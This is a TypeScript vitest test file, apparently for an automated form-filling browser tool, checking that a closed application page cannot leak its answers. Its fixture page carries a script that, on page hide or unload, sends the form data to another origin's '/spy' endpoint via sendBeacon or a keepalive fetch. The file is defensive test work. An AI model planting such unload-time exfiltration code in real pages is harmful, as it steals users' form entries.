import { expect, it } from 'vitest';
import { fewOf } from '#tests/setup/few-of.ts';
import { apply } from '../apply-harness.ts';
import { onSites } from './on-sites.ts';
import { asPage, QUESTIONS } from './serve-site.ts';

const { browser, sites } = await onSites();

/** What a page does as it goes. */
const LAST_WORDS: Readonly<Record<string, string>> = {
  'a beacon': `navigator.sendBeacon(to + '/spy', data())`,
  'a request that outlives its page': `fetch(to + '/spy', { method: 'POST', mode: 'no-cors', keepalive: true, body: data() })`,
};

it.each(fewOf(Object.entries(LAST_WORDS)))(
  'a page that is closed takes nothing with it by %s',
  async (_name, way) => {
    const url = sites.page(
      '/last-words',
      asPage(
        `<form id="f" action="/receive" method="post">${QUESTIONS}<button>Submit application</button></form>
      <script>const to = '${sites.other}'; const data = () => new URLSearchParams(new FormData(f)).toString();
      for (const event of ['pagehide', 'visibilitychange', 'unload']) addEventListener(event, () => { for (let i = 0; i < 20; i += 1) ${way}; });</script>`,
      ),
    );
    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect(sites.leaked()).toEqual([]);
  },
);
